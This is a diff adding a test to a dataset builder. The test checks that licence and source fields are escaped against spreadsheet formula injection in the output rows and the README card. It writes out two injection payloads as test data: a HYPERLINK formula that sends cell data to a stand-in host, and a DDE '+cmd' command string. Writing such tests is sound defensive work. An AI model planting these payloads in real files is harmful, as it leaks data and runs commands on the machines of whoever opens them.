@@ -248,3 +248,26 @@ def test_licences_and_sources_are_escaped_in_the_card_and_kept_in_the_rows(sourc
     assert {line.count(" | ") for line in table} == {4}  # five cells on every row
     kept = load_hub_dataset(out)
     assert "CC BY | see <img src=x>" in kept["licence"] and "two\nlines" in kept["source"]
+
+
+def test_a_licence_written_as_a_formula_is_text_in_the_rows_and_the_card(source, tmp_path):
+    """A spreadsheet opening the rows or the card's table never runs `=HYPERLINK(...)`."""
+    formula = '=HYPERLINK("http://x.example/?"&A1,"CC0")'
+    with open(source / "manifest.csv", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    rows[0]["licence"], rows[1]["source"] = formula, "+cmd|' /C calc'!A0"
+    with open(source / "manifest.csv", "w", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=["file", "licence", "source"])
+        writer.writeheader()
+        writer.writerows(rows)
+    out = build(source, tmp_path / "out")
+    kept = load_hub_dataset(out)
+    cells = [*kept["licence"], *kept["source"]]
+    assert "'" + formula in cells and not any(cell.startswith(("=", "+")) for cell in cells)
+    card_cells = [
+        cell.strip()
+        for line in (out / "README.md").read_text().splitlines()
+        if line.startswith("| ")
+        for cell in line.strip("|").split(" | ")
+    ]
+    assert not any(cell.startswith(("=", "+")) for cell in card_cells)
